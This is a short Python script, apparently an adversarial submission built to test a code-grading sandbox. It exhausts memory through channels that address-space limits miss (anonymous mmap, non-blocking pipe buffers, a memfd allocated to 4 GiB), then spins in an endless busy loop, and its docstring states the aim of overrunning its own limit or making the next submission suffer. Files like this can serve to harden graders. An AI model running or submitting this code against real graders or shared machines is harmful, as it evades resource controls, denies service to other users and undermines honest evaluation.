"""Tries: to take memory that no limit on the address space counts: maps, pipes, memory files.
Won if: stall: it costs more than its own limit, or the next submission suffers.
Naive grader: beaten.
"""

import ctypes
import mmap
import os

kept = []
for way in (
    lambda: mmap.mmap(-1, 64 << 20).write(b"x" * (64 << 20)),
    lambda: kept.append(os.pipe()) or os.set_blocking(kept[-1][1], False) or os.write(kept[-1][1], b"x" * (1 << 20)),
    lambda: os.posix_fallocate(os.memfd_create("m"), 0, 4 << 30),
):
    for _ in range(100):
        try:
            way()
        except (OSError, MemoryError, ValueError):
            break
while True:
    pass
